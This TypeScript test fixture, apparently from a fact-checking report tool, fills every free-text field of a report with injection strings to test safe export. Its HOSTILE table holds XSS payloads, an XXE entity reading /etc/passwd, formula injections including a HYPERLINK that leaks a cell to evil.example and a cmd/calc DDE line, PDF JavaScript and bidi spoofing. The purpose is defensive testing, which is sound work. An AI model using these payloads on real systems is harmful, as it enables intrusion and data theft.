import { newLink } from '@/lib/attribution/chain';
import type { Claim } from '@/lib/claims/claim';
import { NO_FINDING } from '@/lib/claims/finding';
import type { ReportInput } from '@/lib/report/model';
import { normaliseText } from '@/lib/text/normalise';
import { aCue, anArticle, anInput, aSource, at, EDITOR, idOf } from './report';

/** What somebody could type, paste or import to make a file do what it should not, by what it tries. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: `</title></style></textarea></script><script>window.hit=1</script><img src=x onerror="window.hit=1"><svg/onload=window.hit=1>`,
  'the end of an attribute': `" onmouseover="window.hit=1" x='" autofocus onfocus=window.hit=1 \``,
  'the end of CDATA and a comment': ']]><!ENTITY x SYSTEM "file:///etc/passwd"> --> <!-- &x; <?php 1 ?>',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1;"x")',
  'a formula after a separator': 'x;=1+1;\t=1+1,=1+1|=1+1"',
  'a formula after a quote': '",=1+1,"\r\n=1+1',
  'signs that begin one': '@SUM(A1)+-＝1',
  'a tab first': '\t=1+1',
  'a carriage return first': '\r=1+1\r\n@x',
  'a plus first': '+1+cmd|"/c calc"!A0',
  'a minus first': '-2+3',
  'null bytes and controls': 'nul\u0000bell\u0007esc\u001b[31mdel\u007fnel\u0085vt\u000bff\u000cbs\b',
  'overrides and isolates': '\u202egpj.exe\u202c \u2067\u2066x\u2069 \u200f\u061c\u202b open',
  'half a pair': 'high\ud800 low\udfff end\ud83d',
  noncharacters: 'a\ufffe\uffff\ufdd0\u{1fffe}b\ufeff',
  'other line ends': 'a\u2028b\u2029c\u0085d\re\r\nf\n\ng',
  'strings of a PDF': ') Tj ET /JavaScript (app.alert\\(1\\)) >> endobj endstream \\) \\\\ ((( <</S/URI>>',
  Markdown: '# h\n- [x](javascript:window.hit=1) ![i](https://evil.example/i.png) <b>b</b> `c` | d |\n> q\n```\n---\n[^1]: z\\',
  'a very long word': 'W'.repeat(3000),
  'joined and combined': `e${'\u0301'.repeat(400)} 👩🏽‍🚒\u200d\u200d🇮🇱 ष्टि`,
  'escapes of other formats': '_x000D_ \\u003cscript\\u003e &lt;script&gt; &#x3c;b&#x3e; %3Cscript%3E {{7*7}} #{x}',
  'a path': '../../..\\C:\\CON <>:"/|?*.exe. ',
  'an address that is none': 'javascript:window.hit=1//https://evil.example',
  'a web address with a tail': 'https://evil.example/" onclick="window.hit=1"><script>window.hit=1</script>) (x',
};

/** Keys whose values are closed: ids, names of sets, hashes, days; and those that hold the article's text, which is hostile already. */
const KEPT = new Set([
  ...['id', 'deskId', 'articleId', 'revisionId', 'claimId', 'originGroupId', 'sourceIds', 'sha256', 'retrievedOn'],
  ...['kind', 'state', 'statuses', 'sourceType', 'confidence', 'event', 'from', 'to', 'relation', 'stated', 'reading', 'origin'],
  ...['count', 'proximity', 'attributionCheck', 'contentCheck', 'likelihood', 'flag', 'verdict', 'stance', 'encoding'],
  ...['spans', 'cue', 'hedges'],
]);

/**
 * A report's input with `words` in the text, in each of its quotes and in every field that holds free text, whichever those
 * are (but for the program's own name): a string is taken for one unless its key is known to be closed. Claims in three states, every kind of detail.
 */
export function hostileInput(words: string, changes: Partial<ReportInput> = {}): ReportInput {
  const said = normaliseText(words);
  const marked = `Head ${said}\n${said} [1:${said} told us:1] that [2:${said}:2] and [3:[1:again:1] ${said}:3].\n${said}`;
  const input = anInput(marked, { 1: first(marked), 2: second(), 3: third() }, { kind: 'working_copy', groups: GROUPS, ...changes });
  const { text, ...revision } = input.revision;
  const { generator } = input;
  const filled = fill({ ...input, article: anArticle('-', '-'), revision: { ...revision, fileName: '-' } }, words);
  return { ...filled, generator, revision: { ...filled.revision, text } } as ReportInput;
}

const RELAY = aSource(1, '-', 'news_organization');
const OFFICIAL = aSource(2, '-', 'unnamed');
const PAPER = aSource(3, '-', 'document');

const GROUPS = [
  {
    id: idOf('group', 1),
    articleId: idOf('article', 1),
    name: '-',
    sourceIds: [RELAY.id, OFFICIAL.id],
    reason: '-',
    attested: null,
    version: 1,
  },
  { id: idOf('group', 2), articleId: idOf('article', 1), name: '-', sourceIds: [PAPER.id], reason: '-', attested: '-', version: 1 },
];

const CHECKED = { ...NO_FINDING, contentCheck: 'contradicted', credibility: 1, likelihood: 'unlikely' } as const;

/** A chain of three with a record of why somebody is not named, everything that a check comes to, and relations. */
function first(marked: string): Partial<Claim> {
  const text = marked.replace(/\[\d+:|:\d+\]/gu, '');
  const cue = aCue(text, 'told us');
  const anonymity = { descriptor: '-', count: 'exact', number: 2, proximity: 'official', basis: '-', reason: '-' } as const;
  const official = { ...newLink({ sourceType: 'anonymous_source', source: OFFICIAL }, true), cue, anonymity };
  return {
    sourceType: 'anonymous_source',
    source: OFFICIAL,
    chain: [
      newLink({ sourceType: 'author', source: null }),
      { ...newLink({ sourceType: 'news_organization', source: RELAY }), stated: 'from_outside' },
      { ...official, hedges: [{ ...cue, kind: 'weak_verb' }] },
    ],
    note: '-',
    finding: { ...CHECKED, rationale: '-', correction: '-' },
    evidence: [
      { ...anEvidence(1), url: 'https://example.org/-', archivedUrl: '-', stance: 'supports' },
      { ...anEvidence(2), kind: 'person', stance: 'refutes' },
    ],
    flags: [
      { flag: 'loaded_language', verdict: 'added', note: '-' },
      { flag: 'anonymous', verdict: 'dismissed', note: '-' },
    ],
    relations: [
      { kind: 'contradicts', claimId: idOf('claim', 2), note: '-' },
      { kind: 'tension', claimId: idOf('claim', 9), note: '-' },
    ],
  };
}

function anEvidence(number: number): Claim['evidence'][number] {
  return {
    ...{ id: idOf('evidence', number), kind: 'url', title: '-', url: '-', archivedUrl: null, locator: '-', retrievedOn: '2025-08-02' },
    ...{ originGroupId: idOf('group', 1), stance: 'context' },
  };
}

function second(): Partial<Claim> {
  const reason = { text: '-', by: EDITOR, at: at(119) };
  return { sourceType: 'document', source: { ...PAPER, retracted: true }, state: 'returned', note: '-', reason };
}

function third(): Partial<Claim> {
  return { sourceType: 'news_organization', source: RELAY, note: '-', finding: { ...CHECKED, rationale: '-', correction: '-' } };
}

/** The same with `words` in place of every string under a key that is not closed. Where an address begins as one on the web, it goes on doing so. */
function fill<Value>(value: Value, words: string, key = ''): Value {
  if (KEPT.has(key) || value === null || value instanceof Date) return value;
  if (typeof value === 'string') return (value.startsWith('https://example.org/') ? `https://example.org/${words}` : words) as Value;
  if (Array.isArray(value)) return value.map((item) => fill(item, words)) as Value;
  if (typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, fill(inner, words, name)])) as Value;
}
